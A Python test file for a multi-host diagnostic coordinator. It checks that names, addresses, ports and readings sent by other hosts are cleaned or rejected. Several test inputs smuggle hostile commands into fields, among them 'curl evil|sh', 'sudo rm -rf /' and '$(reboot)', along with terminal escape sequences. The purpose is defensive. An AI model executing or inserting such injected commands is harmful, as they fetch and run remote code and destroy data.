"""What comes from other hosts is cleaned and looked at; and what the coordinator does with hosts that send nonsense, or stay."""

from __future__ import annotations

import asyncio
import json
import socket
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest

from rankwise.base.clock import SYSTEM_CLOCK
from rankwise.doctor.host import Host
from rankwise.doctor.json_records import from_json as read_record
from rankwise.doctor.multi_host import wire
from rankwise.doctor.multi_host.all_reduce import read_reduce
from rankwise.doctor.multi_host.cluster_report import HostReport, from_json
from rankwise.doctor.multi_host.connection import Connection
from rankwise.doctor.multi_host.coordinator import Coordinator, OwnHostLostError
from rankwise.doctor.multi_host.coordinator_client import explain_failure
from rankwise.doctor.multi_host.peer import Admission, Peer
from rankwise.doctor.multi_host.phases import Phases, _drop_defaults
from rankwise.doctor.multi_host.plan import JoinError, Plan
from rankwise.doctor.multi_host.results import Results
from rankwise.doctor.multi_host.wire import (
    SilentError,
    clean_host_name,
    clean_name,
    decode,
    encode,
    number,
    one_line,
    whole,
)
from rankwise.engine import ALL_REDUCE_PROCESS
from support import wait_until

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable
    from pathlib import Path

pytestmark = pytest.mark.linux


def make_peers() -> list[Peer]:
    """Return three hosts without a connection; the first one is the coordinator's."""
    nobody: Any = None
    return [
        Peer(connection=nobody, name=f"host{index}", number=index, address=f"10.0.0.{index + 1}", is_own=index == 0)
        for index in range(3)
    ]  # fmt: skip


@pytest.fixture
def peers() -> list[Peer]:
    return make_peers()


def coordinate(scene: Callable[[Coordinator, list[Peer], list[socket.socket]], Awaitable[None]]) -> list[str]:
    """Play a scene with a coordinator and three connected hosts; return the names of the other hosts that were lost."""
    lost: list[str] = []

    async def play() -> None:
        made = Coordinator(Host(name="host0", env={}), Plan(endpoint_host="host0", endpoint_port=1))
        made.on_loss = lambda peer: lost.append(peer.name)
        pairs = [socket.socketpair() for _ in range(3)]
        made.peers = make_peers()
        for peer, (ours, theirs) in zip(made.peers, pairs, strict=True):
            theirs.setblocking(False)
            peer.connection = Connection(*await asyncio.open_connection(sock=ours))
        try:
            await scene(made, made.peers, [theirs for _, theirs in pairs])
        finally:
            for peer, (_, theirs) in zip(made.peers, pairs, strict=True):
                theirs.close()
                await peer.connection.wait_closed(1)

    asyncio.run(play())
    return lost


def test_a_message_has_nothing_that_a_terminal_obeys() -> None:
    """Escapes, bells, marks of direction and halves of characters go, in keys as well; line breaks and all that is to be read stay."""
    told = {"a\x1b[2J": ["x\x07y", {"z": "\u202eevil \x9b1m \ud800"}], "good": "ä …\n\t→ 中"}
    assert decode(json.dumps(told).encode()) == {
        "a?[2J": ["x?y", {"z": "?evil ?1m ?"}],
        "good": "ä …\n\t→ 中",
    }
    assert decode(b'{"a": "\xc2\x9b31m"}') == {"a": "?31m"}
    with pytest.raises(ValueError, match="is no ClusterReport"):
        from_json({"hostss": "\x1b"})
    assert from_json({"hosts": [{"name": "a\x1b[2J", "readings": []}]}).hosts[0].name == "a?[2J"


def test_names_are_words_in_a_comment_and_in_a_command() -> None:
    """A host's name can't leave the comment ``# on NAME:``, nor the quotes of a command; usual names stay as they are."""
    assert clean_name("a\nrm -rf /;`x`$(y)'\"") == "a-rm -rf ---x--(y)--"
    for name in ("node_1", "gpu07.cluster", "node (10.0.0.1) #2", "me@host", "fe80::1"):
        assert clean_name(name) == name
    assert clean_host_name("-x'; reboot #") == "x---reboot--"
    assert one_line("a\n# on b:\r\nc") == "a # on b:? c"


@pytest.mark.parametrize("told", ["NaN", "Infinity", "1e999", '"1"', "null"])
def test_a_number_is_one_that_can_be_reckoned_with(told: str) -> None:
    """What JSON takes for a number and no arithmetic does is none."""
    assert number(decode(b'{"a": %s}' % told.encode()), "a") == 0.0


def test_a_number_without_an_end_is_bounded() -> None:
    """An integer that no float can hold does not break anything."""
    told = decode(b'{"a": 1%s}' % (b"0" * 400))
    assert number(told, "a") < 1e17
    assert whole(told, "a") is None


def link(**changes: Any) -> dict[str, Any]:
    return {"tried": {"links": [{"source": "host2", "target": "host1", "plane": "gloo", "address": "10.0.0.2", "port": 1, "outcome": "ok", **changes}]}}  # fmt: skip


def look_up(**changes: Any) -> dict[str, Any]:
    return {"tried": {"names": [{"source": "host2", "name": "host1", "target": "host1", **changes}]}}


def listen(**changes: Any) -> dict[str, Any]:
    return {"host": {"name": "x", "listening": [{"plane": "gloo", "address": "10.0.0.3", "ports": [1], **changes}]}}


def measure(**changes: Any) -> dict[str, Any]:
    return {"measure": {"source": "host2", "target": "host1", "latency_s": 0.1, "bytes_per_s": 1.0, **changes}}


@pytest.mark.parametrize(
    ("take", "told"),
    [
        ("take_opened", listen(ports=["x; rm"])),
        ("take_opened", listen(ports=[70000])),
        ("take_opened", listen(ports=[1] * 100)),
        ("take_opened", listen(address="a;b")),
        ("take_opened", listen(plane="moon")),
        ("take_opened", {"host": {"name": "x", "address": "$(reboot)"}}),
        ("take_opened", {"host": {"name": "x", "own_name": "x'; reboot"}}),
        ("take_opened", {"host": {"name": "x", "interfaces": [["eth0", 5]]}}),
        ("take_opened", {"host": {"name": "x", "interfaces": [["a;b", "10.0.0.3"]]}}),
        ("take_opened", listen(address="10.0.0.2%0; curl evil|sh\nsudo rm -rf /")),
        ("take_opened", {"host": {"name": "x", "address": "10.0.0.2%0; curl evil|sh\nsudo rm -rf /"}}),
        ("take_opened", {"host": {"name": "x", "gloo_address": "fe80::1%$(x)"}}),
        ("take_opened", {"host": {"name": "x", "private": ["fe80::1%a b"]}}),
        ("take_opened", {"host": {"name": "x", "private": [""]}}),
        ("take_opened", {}),
        ("take_links", {}),
        ("take_links", {"tried": "nonsense"}),
        ("take_links", {"tried": []}),
        ("take_links", link(address="")),
        ("take_links", link(target="nobody")),
        ("take_links", link(target="host2")),
        ("take_links", link(source="host0")),
        ("take_links", link(outcome="maybe")),
        ("take_links", look_up(target="nobody")),
        ("take_links", look_up(got=["`x`"])),
        ("take_links", look_up(got=[""])),
        ("take_links", look_up(got=["10.0.0.2%0; curl evil|sh\nsudo rm -rf /"])),
        ("take_measure", measure(target="nobody")),
        ("take_measure", measure(bytes_per_s=-1.0)),
        ("take_measure", measure(latency_s="1")),
        ("take_readings", {"readings": [{"verdict": "splendid"}]}),
    ],
)
def test_an_answer_that_no_doctor_gives_is_taken_as_a_whole_or_not_at_all(
    peers: list[Peer], take: str, told: dict[str, Any]
) -> None:
    """Ports, addresses, names of hosts and words that do not exist are refused, and leave nothing behind."""
    gathered = Results(peers=peers)
    before = gathered.to_report()
    with pytest.raises(ValueError, match=r"\w"):
        getattr(gathered, take)(peers[2], told)
    assert gathered.to_report() == before


@pytest.mark.parametrize(
    ("take", "told"),
    [
        ("take_opened", listen()),
        ("take_opened", listen(address="fe80::1%eth0.5")),
        ("take_opened", {"host": {"name": "x", "address": "", "own_name": "x"}}),
        ("take_links", link()),
        ("take_links", look_up()),
        ("take_links", look_up(got=["10.0.0.2", "fe80::1%eth0"])),
        ("take_measure", measure()),
    ],
)
def test_what_a_doctor_answers_is_taken(peers: list[Peer], take: str, told: dict[str, Any]) -> None:
    """The same answers without the mistakes are in the report."""
    gathered = Results(peers=peers)
    before = gathered.to_report()
    getattr(gathered, take)(peers[2], told)
    assert gathered.to_report() != before


def test_a_host_does_not_say_what_only_the_coordinator_knows(peers: list[Peer]) -> None:
    """That it was lost, its clock and its readings are not of its own telling; of thousands of addresses a part is kept."""
    gathered = Results(peers=peers)
    cards = {"interfaces": [["eth0", "10.0.0.3"]] * 5000, "private": ["172.17.0.1"] * 5000}
    reading = {"verdict": "fail", "what": "a", "facts": {}, "hosts": []}
    told = {"name": "x", "lost": "gone", "clock_ahead_s": 5.0, "clock_error_s": 1.0, "readings": [reading], **cards}
    gathered.take_opened(peers[2], {"host": told})
    own = gathered.hosts["host2"]
    assert (own.name, own.lost, own.clock_ahead_s, own.clock_error_s, own.readings) == ("host2", "", None, 0.0, ())
    assert (len(own.interfaces), len(own.private)) == (4096, 4096)


def test_an_order_for_all_is_encoded_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """The order to try all links names each host; each host is sent the same line, and an order of its own where there is one."""
    made_lines: list[Any] = []
    monkeypatch.setattr(wire, "encode", lambda order: made_lines.append(order) or encode(order))

    async def scene(made: Coordinator, peers: list[Peer], theirs: list[socket.socket]) -> None:
        peers[0].is_own = False
        monkeypatch.setattr(made, "say", lambda _: None)
        order: Any = {"do": "connect", "hosts": []}
        await made.ask(dict.fromkeys(peers, order), timeout_s=0.05, doing="trying")
        assert made_lines == [order]
        assert [one.recv(1000) for one in theirs] == [encode(order)] * 3

    coordinate(scene)
    made_lines.clear()

    async def others(made: Coordinator, peers: list[Peer], theirs: list[socket.socket]) -> None:
        peers[0].is_own = False
        monkeypatch.setattr(made, "say", lambda _: None)
        await made.ask({one: {"do": "open", "name": one.name} for one in peers}, timeout_s=0.05, doing="opening")
        assert [one.recv(1000) for one in theirs] == [encode({"do": "open", "name": one.name}) for one in peers]

    coordinate(others)


def test_long_work_leaves_time_for_signs_of_life(monkeypatch: pytest.MonkeyPatch) -> None:
    """Between the answers of two hosts, while the set is judged and between two results, other tasks go on: hosts that hear nothing for seconds leave."""
    beats: list[int] = []

    async def beat() -> None:
        while True:
            beats.append(0)
            await asyncio.sleep(0)

    def judge(*_: Any) -> tuple[()]:
        before = len(beats)
        wait_until(lambda: len(beats) > before, what="a sign of life while the set is judged")
        return ()

    async def play() -> list[int]:
        phases = Phases(Host(name="host0", env={}), (), Plan(endpoint_host="host0", endpoint_port=1))
        made, peers, times = phases._coordinator, make_peers(), list[int]()
        phases._found = Results(peers=peers)

        async def do_nothing(*_: Any, **__: Any) -> dict[Peer, Any]:
            return {one: {} for one in peers}

        monkeypatch.setattr(made, "ask", do_nothing)
        monkeypatch.setattr(made, "wait_until_left", do_nothing)
        monkeypatch.setattr(made, "here", lambda: peers)
        monkeypatch.setattr(made, "tell", lambda *_: times.append(len(beats)))
        monkeypatch.setattr("rankwise.doctor.multi_host.phases.judge", judge)
        beating = asyncio.create_task(beat())
        await phases._take({}, 1.0, "looking", lambda *_: times.append(len(beats)))
        await phases._send_result(None)
        beating.cancel()
        return times

    times = asyncio.run(play())
    assert len(times) == 6
    assert sorted(set(times)) == times


def test_what_is_not_known_of_a_host_is_not_sent(peers: list[Peer]) -> None:
    """A host reads of the others what they have said, though what is empty has not been sent."""
    gathered = Results(peers=peers)
    gathered.take_opened(peers[2], listen())
    report = gathered.hosts["host2"]
    sent = _drop_defaults(report)
    assert not {"readings", "interfaces", "node_rank", "clock_ahead_s", "lost"} & sent.keys()
    assert read_record(HostReport, sent) == report


def test_readings_are_of_the_host_that_tells_them(peers: list[Peer]) -> None:
    """A host can't tell of another one, and its clauses are one line each; a fix keeps its lines."""
    gathered = Results(peers=peers)
    reading = {"probe": "limits", "verdict": "fail", "what": "a\nb", "why": "c\n# on d:", "fix": "e\nf", "class": "no", "facts": {}, "hosts": ["host0"]}  # fmt: skip
    gathered.take_readings(peers[2], {"readings": [reading]})
    (told,) = gathered.to_report().hosts[2].readings
    assert (told.hosts, told.what, told.why, told.fix, told.class_id) == (
        ("host2",),
        "a b",
        "c # on d:",
        "e\nf",
        "",
    )


def test_the_coordinators_own_host_is_never_lost_in_silence() -> None:
    """Another host that is lost is reported at once; our own is an error, which all others are to be told."""

    async def scene(made: Coordinator, peers: list[Peer], _: list[socket.socket]) -> None:
        made.lose(peers[1], "gone")
        made.lose(peers[0], "gone, too")
        with pytest.raises(OwnHostLostError, match="gone, too"):
            await made.wait_change(5)

    assert coordinate(scene) == ["host1"]


@pytest.mark.parametrize(
    ("sent", "why"),
    [(b"", "it closed the connection"), (b"no json\n", "its answer makes no sense: it sent b'no json'")],
)
def test_why_a_connection_ended_is_said_once(sent: bytes, why: str) -> None:
    """A host that leaves has closed the connection; one that sends nonsense is no doctor of this version."""

    async def scene(made: Coordinator, peers: list[Peer], theirs: list[socket.socket]) -> None:
        theirs[1].sendall(sent)
        theirs[1].shutdown(socket.SHUT_WR)
        await made._listen(peers[1])
        assert peers[1].lost == why

    assert coordinate(scene) == ["host1"]


def test_who_is_waited_for_is_told_in_the_order_of_numbers(monkeypatch: pytest.MonkeyPatch) -> None:
    """Hosts arrive in any order; those that are still waited for are listed by number, and lost when the time is over."""
    monkeypatch.setattr("rankwise.doctor.multi_host.coordinator._FIRST_SAY_S", 0.05)
    said: list[str] = []

    async def scene(made: Coordinator, peers: list[Peer], _: list[socket.socket]) -> None:
        peers[0].is_own = False
        monkeypatch.setattr(made, "say", said.append)
        await made.ask({peers[n]: {"do": "x"} for n in (2, 0, 1)}, timeout_s=0.1, doing="looking")
        assert peers[1].lost == "did not answer within 0 s (looking)"

    assert sorted(coordinate(scene)) == ["host0", "host1", "host2"]
    assert said == ["looking: waiting for host0, host1 and host2"]


def test_who_does_not_leave_is_waited_for_within_bounds() -> None:
    """One host has all it was sent, and stays; another one takes nothing: the coordinator goes when the time is over."""

    async def scene(made: Coordinator, peers: list[Peer], theirs: list[socket.socket]) -> None:
        made.tell(peers[2], {"say": "x" * (1 << 24)})
        await asyncio.wait_for(made.wait_until_left(0.2), 20)
        assert [one.is_here for one in peers] == [True] * 3
        theirs[2].close()

    assert coordinate(scene) == []


def make_admission(here: list[Peer], rank: int | None = 0) -> Admission:
    plan = Plan(endpoint_host="host0", endpoint_port=29500, num_hosts=3, node_rank=rank)
    return Admission("host0", plan, lambda: here, SYSTEM_CLOCK)


def test_who_was_rejected_is_not_missing(peers: list[Peer]) -> None:
    """Of three hosts two say node 1: that one was rejected is told, and not that node 2 is missing, too; unless it comes again."""
    peers[1].node_rank = peers[2].node_rank = 1
    peers[0].node_rank = 0
    here = peers[:2]
    admission = make_admission(here)
    refusal = admission.admit(peers[2])
    assert refusal is not None
    assert refusal["class"] == "I10"
    admission.admit(peers[2])
    assert admission.doubled == [("host1", "host2", 1)]
    assert admission.list_missing(here) == ()
    assert admission.list_missing(here[:1]) == ("1 of 3 hosts",)
    peers[2].node_rank = 2
    assert admission.admit(peers[2]) is None
    assert admission.list_missing([peers[0], peers[2]]) == ("node rank 1",)


def test_the_coordinators_place_is_taken_before_it_joins(peers: list[Peer]) -> None:
    """Another host that says node 0 is sent away though our own has not arrived yet; our own never is."""
    peers[2].node_rank = peers[0].node_rank = 0
    admission = make_admission([])
    assert admission.admit(peers[2]) is not None
    assert admission.admit(peers[0]) is None


def test_another_coordinator_is_rejected_unless_it_is_ourselves(peers: list[Peer]) -> None:
    """A second node 0 asks: it is refused as a double. If translated addresses lead us to ourselves, nobody is."""
    admission = make_admission(peers[:1])
    peers[2].rival = "another word"
    refusal = admission.admit(peers[2])
    assert refusal is not None
    assert refusal["class"] == "I10"
    peers[1].rival = admission.secret
    own = admission.admit(peers[1])
    assert own is not None
    assert own["class"] == ""
    assert admission.doubled == [("host0", "host2", 0)]


def test_an_all_reduce_without_one_of_its_hosts_is_no_finding_of_its_own() -> None:
    """Whatever the others' ranks say after a host was lost, it is told as skipped, with the host that was lost."""
    orders: Any = {name: {"backend": "gloo", "world": 2} for name in ("host0", "host1")}
    found = read_reduce(orders, {"host0": {"ranks": [{"why": "Timed out after 51 seconds"}]}}, ["host1"])
    assert (found.backend, found.class_id, found.why) == ("", "", "host1 was lost while it ran")


def make_torch(folder: Path) -> Path:
    """Return a Python whose torch says that it is there, and never comes back."""
    (folder / "torch").mkdir()
    (folder / "torch" / "__init__.py").write_text(
        f"import pathlib, time\npathlib.Path({str(folder / 'is_up')!r}).touch()\ntime.sleep(600)\n"
    )
    (folder / "torch" / "distributed.py").write_text("")
    python = folder / "python"
    python.write_text(f'#!/bin/sh\nPYTHONPATH={folder} exec {sys.executable} "$@"\n')
    python.chmod(0o755)
    return python


def test_ranks_end_with_their_input(tmp_path: Path) -> None:
    """Whoever has started ranks may be killed in any way: the end of their standard input ends them, each of several."""
    given = ["RANK=0", "RANKS=2", "WORLD_SIZE=4", "MASTER_ADDR=127.0.0.1", "MASTER_PORT=1", "BACKEND=gloo", "LIFELINE=1"]  # fmt: skip
    with subprocess.Popen(
        [make_torch(tmp_path), ALL_REDUCE_PROCESS, *given], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    ) as process:  # fmt: skip
        wait_until((tmp_path / "is_up").exists, what="a rank")
        assert process.stdin is not None
        process.stdin.close()
        process.stdin = None
        assert process.stdout is not None
        process.stdout.read()  # ends with the last process that holds it
        process.wait(timeout=30)


def test_what_the_masters_name_means_here_is_told(tmp_path: Path) -> None:
    """I2, I9: the address and the line of /etc/hosts that says it; of a name server's answer the address; of an address nothing."""
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "hosts").write_text("127.0.0.1 localhost\n# host0\n10.0.0.9 other Host0 # here\n")
    plan = Plan(endpoint_host="host0", endpoint_port=29500, arrival_timeout_s=8)
    host = Host(root=tmp_path, lookup=lambda _: ("10.0.0.9",), env={})
    told = explain_failure(host, plan, ConnectionRefusedError())
    assert told.message == (
        "nothing listened at host0:29500 within 8 s; host0 is 10.0.0.9 here, by line 3 of /etc/hosts"
    )
    assert told.fix.startswith("# is host0 the first host? All hosts must be given the same one")
    assert told.fix.splitlines()[1].startswith("getent hosts host0 ")
    assert told.fix.index("is that the address of host0?") < told.fix.index("start the doctor there")
    (tmp_path / "etc" / "hosts").write_text("")
    silent = explain_failure(host, plan, SilentError("nothing"))
    assert silent.class_id == "I9"
    assert silent.message.endswith("host0 is 10.0.0.9 here, by the name server")
    assert "/etc/hosts" not in silent.fix
    by_address = Plan(endpoint_host="10.0.0.1", endpoint_port=29500)
    assert " here" not in explain_failure(host, by_address, TimeoutError()).message
    assert "getent" not in explain_failure(host, by_address, TimeoutError()).fix


def test_a_port_in_the_name_of_the_meetings_host_is_told(tmp_path: Path) -> None:
    """I3: a name with a port in it has no address, and nobody is told to write it into /etc/hosts."""
    plan = Plan(endpoint_host="host0:123", endpoint_port=29500, arrival_timeout_s=8)
    told = explain_failure(Host(root=tmp_path, env={}), plan, socket.gaierror())
    assert (told.class_id, told.message) == (
        "I3",
        "the rendezvous address host0:123 is more than the name of a host",
    )
    assert told.fix.startswith("export MASTER_ADDR=host0 MASTER_PORT=123")
    brackets = Plan(endpoint_host="[fd00::1]", endpoint_port=29500, arrival_timeout_s=8)
    told = explain_failure(Host(root=tmp_path, env={}), brackets, socket.gaierror())
    assert told.fix == "export MASTER_ADDR=fd00::1"


def test_a_meeting_that_failed_is_a_reading() -> None:
    """What the user is to see beside this host's own readings: a failure of ``rendezvous``, with what is to be done."""
    told = JoinError("it broke", "# mend it", "I9").to_reading()
    assert (told.verdict, told.probe, told.what, told.fix, told.class_id) == (
        "fail",
        "rendezvous",
        "it broke",
        "# mend it",
        "I9",
    )
